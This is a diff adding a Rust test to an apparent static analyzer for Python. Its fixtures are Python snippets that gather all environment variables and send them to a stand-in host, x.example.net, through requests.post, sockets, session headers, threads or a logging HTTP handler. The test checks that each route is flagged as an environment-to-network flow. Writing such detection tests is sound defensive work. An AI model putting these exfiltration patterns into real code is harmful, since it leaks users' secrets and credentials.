@@ -77,6 +77,25 @@ fn whatever_brings_data_into_a_file_may_bring_it_for_another() {
 }
 
 #[test]
+fn data_of_another_file_may_go_wherever_data_of_its_own_may() {
+    let gather = "import os\ndef f():\n    held = []\n    held.append(dict(os.environ))\n    return held\n";
+    for send in [
+        "def g(s): s.post('https://x.example.net', data=f())\n",
+        "def g(s): s.sendall(f())\n",
+        "import requests\nclass C(requests.Session):\n    def g(self): self.headers = {'x': str(f())}\n",
+        "import requests\ns = requests.Session()\ns.headers['x'] = str(f())\n",
+        "import requests\nsetattr(requests.Session(), 'headers', {'x': str(f())})\n",
+        "import requests\nlist(map(requests.post, ['https://x.example.net'], [f()]))\n",
+        "import requests, threading\nthreading.Thread(target=requests.post, args=('https://x.example.net', f()))\n",
+        "import logging, logging.handlers as h\nlogging.root.addHandler(h.HTTPHandler('x.example.net'))\nlogging.info(f())\n",
+    ] {
+        let send = format!("from .a import f\n{send}");
+        let files = [("p/__init__.py", ""), ("p/a.py", gather), ("p/b.py", &send)];
+        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{send}");
+    }
+}
+
+#[test]
 fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
     let client =
         "import requests\n\nclass Client(requests.Session):\n    def keep(self, body):\n        self.body = body\n";
